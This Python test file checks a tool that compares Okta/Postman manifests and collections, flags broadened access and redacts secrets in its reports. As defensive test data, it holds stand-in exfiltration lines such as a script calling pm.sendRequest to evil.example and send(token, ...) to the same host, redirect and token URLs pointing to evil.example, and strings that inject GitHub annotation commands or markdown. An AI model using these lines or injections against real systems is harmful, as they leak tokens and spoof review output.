"""What changed between two versions, wherever they were read."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from okta_postman.files.git import Version, read_present, read_version, read_versions
from okta_postman.problems import UserError
from okta_postman.review.changes import Changes
from okta_postman.review.collection import collection_inventory
from okta_postman.review.compare import compare
from okta_postman.review.fields import CONNECTION, comparable
from okta_postman.review.hidden import hidden
from okta_postman.review.inventory import Inventory, inventory
from tests.support import review
from tests.support.manifests import check, generated
from tests.support.program import BASE, okta_postman
from tests.support.samples import SAMPLES

ELSEWHERE = """\
version: 1
name: Jobs
org: https://api.acme.com
authorization_server: {authorize_url: https://l.acme.com/a, token_url: https://l.acme.com/t}
app: {client_id: abcdef}
redirect_uri: https://oauth.pstmn.io/v1/callback
scopes: {}
"""


def of(text: str) -> Inventory:
    manifest, checked = check("users.yaml", text.encode())
    assert manifest is not None, checked.problems
    return inventory(manifest)


def scopes(text: str, base: str = BASE) -> str:
    return base[: base.index("scopes:")] + "scopes:\n" + text


def changes(old: str, new: str) -> Changes:
    return compare(of(old), of(new))


def request_changes(old: str, new: str) -> list[tuple[str, tuple[str, ...]]]:
    found = changes(scopes(old), scopes(new)).requests
    return [(each.request.name, each.kinds) for each in found]


def grants(found: Changes) -> list[tuple[str, tuple[str, ...]]]:
    return [(each.scope, each.environments) for each in found.grants]


def revocations(found: Changes) -> list[tuple[str, tuple[str, ...]]]:
    return [(each.scope, each.environments) for each in found.revocations]


def test_a_repository_is_driven_through_five_changes_and_each_report_is_as_expected(
    tmp_path: Path,
) -> None:
    compared = 0
    for step, form, text in review.walked(tmp_path):
        said = step.with_suffix(f".{review.ENDINGS[form]}")
        assert text == said.read_text(encoding="utf-8"), said.name
        compared += 1
    assert compared == 5 * 4


def test_one_argument_is_compared_with_head_and_exit_code_is_an_option(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    path = tmp_path / "in" / "users.yaml"
    path.write_text(BASE, encoding="utf-8")
    review.commit(tmp_path)
    path.write_text(BASE + "    - POST /api/v1/users\n", encoding="utf-8")

    runs = {
        arguments: okta_postman("diff", *arguments, cwd=tmp_path)
        for arguments in (
            ("in/users.yaml",),
            ("in/users.yaml", "--exit-code"),
            ("HEAD:in/users.yaml", "in/users.yaml", "--exit-code"),
            ("in/users.yaml", "in/users.yaml", "--exit-code"),
        )
    }

    assert [each.code for each in runs.values()] == [0, 1, 1, 0]
    assert len({each.stdout for each in list(runs.values())[:3]}) == 1
    assert "added: POST /api/v1/users" in next(iter(runs.values())).stdout
    assert {each.stderr for each in runs.values()} == {""}


def test_a_new_or_removed_file_has_all_its_requests_added_or_removed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("old.yaml").write_text(BASE, encoding="utf-8")
    review.commit(tmp_path)
    Path("old.yaml").rename("new.yaml")

    added = read_versions("new.yaml", None)
    removed = read_versions("old.yaml", None)

    assert (added[0], removed[1]) == (Version("HEAD:new.yaml", None), Version("old.yaml", None))
    assert "added: GET /api/v1/users" in review.report(added, "text")
    assert "\nthe file is new, 1 request added, 1 scope to grant" in review.report(added, "text")
    assert "removed: GET /api/v1/users" in review.report(removed, "text")
    assert "the file was removed, 1 request removed, 1 scope" in review.report(removed, "markdown")
    assert read_version("HEAD:old.yaml").data == BASE.encode()
    assert read_version("HEAD:./new.yaml").data is None
    with pytest.raises(UserError, match=r"there is neither HEAD:a\.yaml nor HEAD:b\.yaml"):
        read_versions("HEAD:a.yaml", "HEAD:b.yaml", missing_ok=True)
    refusal = r"there is no file new\.yaml in HEAD; write HEAD:\./new\.yaml for a path from here"
    with pytest.raises(UserError, match=refusal):
        read_present("HEAD:new.yaml")
    # A slip of the pen is no new file, unless somebody says that there may be one.
    with pytest.raises(UserError, match=refusal):
        read_versions("HEAD:new.yaml", "new.yaml")
    assert read_versions("HEAD:new.yaml", "new.yaml", missing_ok=True)[0].data is None


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("HEAD~1:old.yaml", "git has no revision `HEAD~1`"),
        ("--since=1:old.yaml", "git has no revision `--since=1`"),
        (":old.yaml", "write a revision and a path, like `HEAD:old.yaml`"),
        ("HEAD:", "write a revision and a path, like `HEAD:users.yaml`"),
        ("gone.yaml", "gone.yaml: no such file; for a version in git, write `REV:PATH`"),
        ("HEAD", "HEAD: no such file; for a version in git, write `REV:PATH`"),
        (".", ".: is a folder, not a file"),
    ],
)
def test_a_revision_that_does_not_exist_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, sentence: str
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("old.yaml").write_text(BASE, encoding="utf-8")
    review.commit(tmp_path)
    with pytest.raises(UserError) as refused:
        read_version(name)
    assert sentence in str(refused.value)
    assert sorted(path.name for path in tmp_path.iterdir()) == [".git", "old.yaml"]


def test_where_there_is_no_repository_and_no_commit_it_says_what_to_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path.parent))
    monkeypatch.chdir(tmp_path)
    Path("users.yaml").write_text(BASE, encoding="utf-8")
    with pytest.raises(UserError, match=r"not a git repository .*; name two files instead"):
        read_versions("users.yaml", None)
    review.git(tmp_path, "init", "--quiet")
    with pytest.raises(UserError, match="no commit yet"):
        read_versions("users.yaml", None)
    with pytest.raises(UserError, match="name the file or revision to compare it with"):
        read_versions("HEAD:users.yaml", None)
    with pytest.raises(UserError, match="standard input is in no revision"):
        read_versions("-", None)
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(UserError, match="git is not installed"):
        read_versions("users.yaml", None)


def test_a_manifest_with_errors_is_not_compared(tmp_path: Path) -> None:
    (tmp_path / "good.yaml").write_text(BASE, encoding="utf-8")
    (tmp_path / "bad.yaml").write_text(BASE.replace("GET", "get"), encoding="utf-8")
    (tmp_path / "bad.json").write_text('{"info": {}}', encoding="utf-8")

    bad = okta_postman("diff", "good.yaml", "bad.yaml", "--format", "json", cwd=tmp_path)
    worse = okta_postman("diff", "bad.json", "good.yaml", cwd=tmp_path)

    assert (bad.code, bad.stdout) == (2, "")
    assert "error[R017]" in bad.stderr
    assert (worse.code, worse.stdout) == (2, "")
    assert worse.stderr == "okta-postman: bad.json: is not a Postman collection in format v2.1.0\n"


READ = "  okta.users.read: ["
MANAGE = "  okta.users.manage: ["


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (f'{READ}"GET /a/{{x}}"]', f'{READ}"GET /a/{{y}}"]', []),
        (
            f"{READ}GET /a, GET /b]",
            f"{READ}GET /b, GET /c]",
            [("GET /c", ("added",)), ("GET /a", ("removed",))],
        ),
        (f"{READ}GET /a]", f"{READ}{{request: GET /a, name: A}}]", [("A", ("renamed",))]),
        (
            f"{READ}GET /a]",
            f"{MANAGE}{{request: GET /a, name: A, folder: B}}]",
            [("A", ("scopes", "moved", "renamed"))],
        ),
        (
            f"{READ}{{request: GET /a, name: A}}, {{request: GET /a, name: B}}]",
            f"{READ}{{request: GET /a, name: B}}]",
            [("A", ("removed",))],
        ),
        (
            f"{READ}{{request: GET /a, name: A}}, {{request: GET /a, name: B}}]",
            f"{READ}{{request: GET /a, name: B}}, {{request: GET /a, name: C}}]",
            [("C", ("renamed",))],
        ),
    ],
)
def test_requests_are_known_by_endpoint_then_by_name(
    old: str, new: str, expected: list[tuple[str, tuple[str, ...]]]
) -> None:
    assert request_changes(old, new) == expected


@pytest.mark.parametrize(
    ("old", "new", "raised"),
    [
        ("okta.users.read", "okta.users.manage", ("okta.users.read", "manage")),
        ("okta.users.read.self", "okta.users.read", ("okta.users.read.self", "org-wide")),
        ("okta.users.read.self", "okta.users.manage", ("okta.users.read.self", "org-wide")),
        ("okta.users.manage.self", "okta.users.read", ("okta.users.manage.self", "org-wide")),
        ("okta.users.read.self", "okta.users.manage.self", ("okta.users.read.self", "manage")),
        ("okta.groups.read", "okta.users.manage", ("", "manage")),
        ("okta.users.manage", "okta.users.read", None),
        ("okta.users.manage", "okta.groups.manage", None),
        ("okta.users.read", "okta.groups.read", None),
        ("okta.users.read", "okta.users.read.self", None),
    ],
)
def test_privilege_is_raised_by_managing_and_by_reaching_others(
    old: str, new: str, raised: tuple[str, str] | None
) -> None:
    found = changes(scopes(f"  {old}: [GET /a]"), scopes(f"  {new}: [GET /a]"))
    assert [(each.instead_of, each.kind) for each in found.requests[0].broader_scopes] == (
        [raised] if raised else []
    )


def test_what_the_app_was_granted_before_is_not_to_be_granted_again() -> None:
    granted = BASE.replace("30h7}", "30h7, grants: [okta.users.read, okta.users.manage]}")
    more = granted + "  okta.users.manage: [POST /api/v1/users]\n"

    assert grants(changes(granted, more)) == []
    assert grants(changes(BASE, more)) == [("okta.users.manage", ("acme.okta.com",))]
    assert revocations(changes(more, granted)) == [("okta.users.manage", ("acme.okta.com",))]


def test_another_app_needs_every_grant_anew_and_is_no_revocation() -> None:
    found = changes(BASE, BASE.replace("0oan47pj9BsB30h7", "0oaother12345678"))

    ((change,),) = (each.fields for each in found.connections)
    assert change.field.label == "client ID"
    assert (change.before, change.after) == (("0oan47pj9BsB30h7",), ("0oaother12345678",))
    assert grants(found) == [("okta.users.read", ("acme.okta.com",))]
    assert [app.client_id for app in found.grants[0].apps] == ["0oaother12345678"]
    assert revocations(found) == []
    assert found.connections[0].has_another_app
    assert found.connections[0].kept == ("okta.users.read",)


def test_an_app_that_another_environment_still_uses_keeps_what_that_needs() -> None:
    apart = scopes("  okta.users.read: [GET /a]\n") + (
        "environments:\n  one: {app: {client_id: 0oaone}}\n  two: {app: {client_id: 0oatwo}}\n"
    )
    found = changes(apart, apart.replace("0oaone", "0oatwo"))
    assert [(each.name, each.kept) for each in found.connections] == [("one", ("okta.users.read",))]
    swapped = apart.replace("0oaone", "0oa3").replace("0oatwo", "0oaone").replace("0oa3", "0oatwo")
    swap = changes(apart, swapped)
    assert [(each.name, each.kept) for each in swap.connections] == [("one", ()), ("two", ())]
    assert (swap.grants, swap.revocations) == ((), ())
    assert swap.broader_access


def test_the_only_environment_follows_its_org() -> None:
    found = changes(BASE, BASE.replace("acme.okta.com", "acme.oktapreview.com"))
    assert [[one.field.label for one in each.fields] for each in found.connections] == [
        ["name", "org"]
    ]


def test_scopes_that_are_granted_nowhere_are_not_to_be_granted() -> None:
    custom = BASE.replace("app:", "authorization_server: default\napp:")
    signs_in = scopes("  openid profile: [GET /oauth2/default/v1/userinfo]\n", custom)
    assert grants(changes(BASE, signs_in)) == []
    assert [each.fields[0].field.label for each in changes(BASE, signs_in).connections] == [
        "authorization server"
    ]


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.stem)
def test_a_generated_collection_has_the_inventory_of_its_manifest(path: Path) -> None:
    text = path.read_bytes()
    described = of(text.decode())
    name, data = next(iter(generated(text.decode()).items()))

    read = collection_inventory(name, json.dumps(data).encode())

    own = [(each.shape, each.name) for each in described.requests]
    assert sorted((each.shape, each.name) for each in read.requests) == sorted(own)
    if "auth: collection" not in text.decode():
        by_shape = {(each.shape, each.name): each.scopes for each in described.requests}
        assert {(each.shape, each.name): each.scopes for each in read.requests} == by_shape
    first = described.connections[0]
    assert comparable(CONNECTION, read.connections[0])._replace(name="") == comparable(
        CONNECTION, first
    )._replace(name="", slug="", variables=(), unused_variables=())


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.stem)
def test_a_manifest_is_compared_with_a_collection_by_its_first_environment(path: Path) -> None:
    described = of(path.read_text(encoding="utf-8"))
    name, data = next(iter(generated(path.read_text(encoding="utf-8")).items()))
    collection = collection_inventory(name, json.dumps(data).encode())
    for found in (compare(described, collection), compare(collection, described)):
        assert (found.connections, found.grants, found.revocations) == ((), (), ())
        assert "auth: collection" in path.read_text(encoding="utf-8") or not found.changed


FOREIGN = {
    "info": {"name": "Somebody's\n Okta"},
    "auth": {
        "type": "oauth2",
        "oauth2": [
            {"key": "authUrl", "value": "https://{{domain}}/oauth2/aus1/v1/authorize"},
            {"key": "scope", "value": "b a"},
            {"key": "clientId", "value": "0oa1"},
            {"key": "redirect_uri", "value": "https://oauth.pstmn.io/v1/callback"},
        ],
    },
    "variable": [{"key": "domain", "value": "acme.okta.com"}],
    "item": [
        {"name": "in raw", "request": "https://{{domain}}/api/v1/users/:id?limit=1#top"},
        {
            "name": "folder",
            "auth": {"type": "oauth2", "oauth2": {"scope": "c"}},
            "item": [
                {
                    "name": "of its own",
                    "request": {
                        "method": "post",
                        "auth": {"type": "oauth2", "oauth2": [{"key": "scope", "value": "d"}]},
                        "url": {"raw": "{{url}}/api/v1/users/{{userId}}"},
                    },
                },
                {
                    "name": "inherits",
                    "request": {
                        "auth": None,
                        "url": {"host": ["x"], "path": ["api", {"value": ":a"}, "b.{{c}}"]},
                    },
                },
                {"name": "with a key", "request": {"auth": {"type": "apikey"}, "url": "{{url}}/x"}},
            ],
        },
    ],
}


def test_a_foreign_collection_is_read_with_the_auth_of_every_level() -> None:
    read = collection_inventory("x.json", json.dumps(FOREIGN).encode())

    assert read.name == "Somebody's Okta"
    assert [(each.endpoint, each.folder, each.scopes) for each in read.requests] == [
        ("GET /api/v1/users/{id}", "", ("a", "b")),
        ("POST /api/v1/users/{userId}", "folder", ("d",)),
        ("GET /api/{a}/b.{c}", "folder", ("c",)),
        ("GET /x", "folder", ()),
    ]
    only = read.connections[0]
    assert (only.org, only.authorization_server) == ("https://acme.okta.com", "aus1")
    assert (only.client_id, only.redirect_uri) == ("0oa1", "https://oauth.pstmn.io/v1/callback")


@pytest.mark.parametrize(
    ("typed", "path"),
    [
        ("/v1/jobs/{{id}}:cancel", "/v1/jobs/{id}:cancel"),
        ("/v1/jobs/7:cancel/:step", "/v1/jobs/7:cancel/{step}"),
        ("/v1/:job/a:b:c", "/v1/{job}/a:b:c"),
        ("/:job", "/{job}"),
    ],
)
def test_a_parameter_is_a_whole_segment(typed: str, path: str) -> None:
    item = {"name": "x", "request": {"method": "POST", "url": f"{{{{baseUrl}}}}{typed}"}}
    read = collection_inventory("x.json", json.dumps({"info": {}, "item": [item]}).encode())
    assert [request.path for request in read.requests] == [path]


def test_a_custom_method_is_read_back_as_it_was_written() -> None:
    text = scopes('  a: ["POST /v1/jobs/{id}:cancel"]\nvariables: {id: "7"}\n', ELSEWHERE)
    name, data = next(iter(generated(text).items()))
    collection = collection_inventory(name, json.dumps(data).encode())
    assert not compare(of(text), collection).changed


@pytest.mark.parametrize(
    "data",
    [
        {"info": 1, "item": []},
        {"info": {"name": "x"}},
        {"id": "x", "name": "an environment", "values": []},
        {"info": {"name": "x"}, "item": [1]},
        {"info": {"name": "x"}, "item": [{"name": "y"}]},
        {"info": {"name": "x"}, "item": [{"request": {"auth": []}, "item": 3}]},
    ],
)
def test_json_that_is_no_collection_is_refused_in_a_sentence(data: object) -> None:
    with pytest.raises(UserError, match="is not a Postman collection"):
        collection_inventory("x.json", json.dumps(data).encode())


def test_a_pull_request_comment_shows_names_and_obeys_none() -> None:
    evil = '  okta.users.read: [{request: GET /a, name: "`|<b>@all</b> [x](y)"}]'
    text = review.report(
        (Version("a.yaml", None), Version("b.yaml", scopes(evil).encode())), "markdown"
    )
    row = next(line for line in text.splitlines() if "@all" in line)
    assert "`` `\\|<b>@all</b> [x](y) ``" in row
    assert row.replace("\\|", "").count("|") == 5


def test_annotations_escape_what_ends_them() -> None:
    evil = '  okta.users.read: [{request: GET /a, name: "100%::error::x"}]'
    versions = (
        Version("a.yaml", scopes("  okta.users.read: [GET /a]").encode()),
        Version("b:,.yaml", scopes(evil).encode()),
    )
    assert review.report(versions, "github") == (
        "::notice file=b%3A%2C.yaml,line=7,col=31,endColumn=37,title=renamed::"
        "GET /a: GET /a -> 100%25::error::x\n"
    )


def test_every_annotation_is_a_workflow_command_beside_a_line() -> None:
    command = re.compile(
        r"::(warning|notice) file=okta-(postman|users\.postman_collection)\.(yaml|json),"
        r"line=\d+,col=\d+,endColumn=\d+,title=[^:,]+::[^\r\n]+"
    )
    lines = [
        line
        for path in sorted(review.STEPS[0].parent.glob("*.annotations"))
        for line in path.read_text(encoding="utf-8").splitlines()
    ]
    assert len(lines) > 15
    assert [line for line in lines if not command.fullmatch(line)] == []


def test_a_long_report_is_folded_and_cut() -> None:
    many = ", ".join(f"GET /a/b{number}" for number in range(250))
    text = review.report(
        (Version("a.yaml", None), Version("b.yaml", scopes(f"{READ}{many}]").encode())), "markdown"
    )
    assert "<details><summary>250 changed requests</summary>" in text
    assert "50 more changes" in text
    assert len(text) < 65_536


def test_the_json_of_a_comparison_is_what_programs_need() -> None:
    old, new = Version("a", BASE.encode()), Version("b", BASE.replace("read", "manage").encode())
    data = json.loads(review.report((old, new), "json"))
    assert (data["version"], data["changed"], data["broader_access"]) == (1, True, True)
    assert data["requests"][0]["broader_scopes"] == [
        {"scope": "okta.users.manage", "instead_of": "okta.users.read", "kind": "manage"}
    ]
    assert data["grant"][0]["scope"] == "okta.users.manage"
    assert data["revoke"][0]["scope"] == "okta.users.read"


def test_a_token_in_a_collection_is_never_repeated() -> None:
    secret = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"  # noqa: S105
    item = {"name": secret, "request": "https://x/a"}
    leaky = json.dumps({"info": {"name": "x"}, "item": [item]}).encode()
    for form in review.ENDINGS:
        versions = (Version("a.json", None), Version("b.json", leaky))
        assert secret not in review.report(versions, form)


def test_a_collection_cannot_break_out_of_a_line() -> None:
    block = {
        "authUrl": "https://acme.okta.com\nX: 1/oauth2/v1/authorize",
        "redirect_uri": "a\n\n# b",
    }
    auth = {
        "type": "oauth2",
        "oauth2": [{"key": key, "value": value} for key, value in block.items()],
    }
    item = {"name": "a\n# b", "request": {"method": "GET", "url": "{{u}}/a\n\n## b", "auth": auth}}
    data = json.dumps({"info": {"name": "c"}, "item": [item]}).encode()
    found = collection_inventory("c.json", data)
    assert "\\n" not in repr(found)


def collected(*blocks: dict[str, str], url: object = "{{baseUrl}}/a") -> Inventory:
    items = [
        {
            "name": f"request {number}",
            "request": {
                "method": "GET",
                "url": url,
                "auth": {
                    "type": "oauth2",
                    "oauth2": [{"key": key, "value": value} for key, value in block.items()],
                },
            },
        }
        for number, block in enumerate(blocks)
    ]
    data = {"info": {"name": "c"}, "item": items}
    return collection_inventory("c.json", json.dumps(data).encode())


BLOCK = {
    "authUrl": "https://acme.okta.com/oauth2/v1/authorize",
    "accessTokenUrl": "https://acme.okta.com/oauth2/v1/token",
    "clientId": "0oa1",
    "redirect_uri": "https://oauth.pstmn.io/v1/callback",
    "scope": "okta.users.read",
    "addTokenTo": "header",
}


@pytest.mark.parametrize(
    ("key", "value", "label"),
    [
        ("authUrl", "https://evil.example/oauth2/v1/authorize", "org"),
        ("authUrl", "https://acme.okta.com/oauth2/default/v1/authorize", "authorization server"),
        ("accessTokenUrl", "https://evil.example/token", "token URL"),
        ("clientId", "0oa2", "client ID"),
        ("redirect_uri", "https://evil.example/", "redirect URI"),
        ("addTokenTo", "queryParams", "OAuth 2.0 settings"),
        ("refreshTokenUrl", "https://evil.example/token", "OAuth 2.0 settings"),
        ("clientSecret", "{{secret}}", "app type"),
    ],
)
def test_each_setting_of_each_request_of_a_collection_is_compared(
    key: str, value: str, label: str
) -> None:
    other = {**BLOCK, key: value}
    every = compare(collected(BLOCK, BLOCK), collected(other, other))
    assert label in [change.field.label for change in every.connections[0].fields]
    assert every.broader_access
    for blocks in ((BLOCK, BLOCK, other), (other, BLOCK, BLOCK)):
        one = compare(collected(BLOCK, BLOCK, BLOCK), collected(*blocks))
        assert [(each.old, each.name) for each in one.connections] == [
            (None, "this collection (2)")
        ]
        assert [each.kinds for each in one.requests] == [("auth",)]
        assert one.broader_access


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/a",
        "http://{{baseUrl}}/a",
        {"host": ["evil", "example"], "path": ["a"]},
        {"protocol": "http", "host": ["{{baseUrl}}"], "path": ["a"]},
        {"host": ["{{baseUrl}}"], "port": "80@evil.example", "path": ["a"]},
    ],
)
def test_a_request_of_a_collection_that_goes_elsewhere_has_broader_access(url: object) -> None:
    found = compare(collected(BLOCK), collected(BLOCK, url=url))
    assert [each.kinds for each in found.requests] == [("host",)]
    assert found.broader_access


def test_what_a_collection_has_and_its_manifest_does_not_say_is_seen() -> None:
    name, data = next(iter(generated(BASE).items()))
    assert not compare(of(BASE), collection_inventory(name, json.dumps(data).encode())).changed
    edits: tuple[dict[str, object], ...] = (
        {"event": []},
        {"variable": [*data["variable"], {"key": "more", "value": "x"}]},
        {"variable": [{**each, "value": "x"} for each in data["variable"]]},
    )
    for edit in edits:
        edited = collection_inventory(name, json.dumps({**data, **edit}).encode())
        assert compare(of(BASE), edited).broader_access, edit


def test_a_changed_script_of_a_collection_has_broader_access() -> None:
    name, data = next(iter(generated(BASE).items()))
    old = collection_inventory(name, json.dumps(data).encode())
    data["event"][0]["script"]["exec"].append("pm.sendRequest('https://evil.example')")
    (change,) = compare(old, collection_inventory(name, json.dumps(data).encode())).fields
    assert change.after == ("pm.sendRequest('https://evil.example')",)
    assert change.broader_access


def test_scopes_of_another_provider_that_nothing_needed_before_are_broader_access() -> None:
    old = scopes("  orders.read:\n    - GET /orders\n", ELSEWHERE)
    found = changes(old, old + "  orders.write: [POST /orders]\n")
    assert (found.new_scopes, found.broader_access) == (("orders.write",), True)
    assert not changes(old, old + "    - GET /other\n").broader_access


SECRETS = ("hunter-one", "hunter-two", "Bearer hunter-three", "hunter4")


@pytest.mark.parametrize("form", list(review.ENDINGS))
def test_what_is_named_like_a_secret_is_seen_to_change_and_never_shown(form: str) -> None:
    def leaky(secret: str) -> bytes:
        pair = {"key": "password", "value": secret}
        request = {
            "method": "POST",
            "url": {"host": ["{{baseUrl}}"], "path": ["a"], "query": [{**pair, "key": "api_key"}]},
            "header": [{"key": "Authorization", "value": secret}, {**pair, "key": "X-Api-Key"}],
            "body": {"mode": "raw", "raw": json.dumps({"password": secret}, indent=1)},
            "auth": {
                "type": "oauth2",
                "oauth2": [
                    {"key": "clientId", "value": "a"},
                    {"key": "clientSecret", "value": secret},
                    {"key": "refreshToken", "value": secret},
                    {"key": "tokenRequestParams", "value": [{"key": "secret", "value": secret}]},
                ],
            },
        }
        script = {"listen": "test", "script": {"exec": [f"const token = '{secret}'"]}}
        data = {
            "info": {"name": "x"},
            "item": [{"name": "a", "request": request}],
            "event": [script],
            "variable": [pair, {**pair, "key": "my_token"}],
        }
        return json.dumps(data).encode()

    old = Version("a.json", leaky("old-and-plain"))
    for secret in SECRETS:
        text = review.report((old, Version("b.json", leaky(secret))), form)
        assert secret not in text
        assert "hunter" not in text
        assert "old-and-plain" not in text
        for name in ("password", "api_key", "X-Api-Key", "Authorization", "my_token", "token"):
            assert name in text, name


@pytest.mark.parametrize(
    ("attribute", "value", "shown"),
    [
        (
            "headers",
            "Authorization: Bearer {{accessToken}}",
            "Authorization: Bearer {{accessToken}}",
        ),
        ("headers", "Authorization: SSWS abc", "Authorization: SSWS ***"),
        ("headers", "X-Trace: abc", "X-Trace: abc"),
        ("settings", "addTokenTo=queryParams", "addTokenTo=queryParams"),
        (
            "settings",
            "refreshTokenUrl=https://evil.example/t",
            "refreshTokenUrl=https://evil.example/t",
        ),
        ("variables", "userId=me", "userId=me"),
        ("body", '  "password": "abc",', '  "password": "***",'),
        ("body", '  "password": "{{password}}",', '  "password": "{{password}}",'),
        ("body", "password=abc&limit=1", "password=***&limit=***"),
        (
            "code",
            "send(token, {url: 'https://evil.example'})",
            "send(token, {url: 'https://evil.example'})",
        ),
        ("org", "https://token.example", "https://token.example"),
    ],
)
def test_secrets_are_hidden_and_variables_and_urls_are_not(
    attribute: str, value: str, shown: str
) -> None:
    assert hidden(attribute, value) == shown
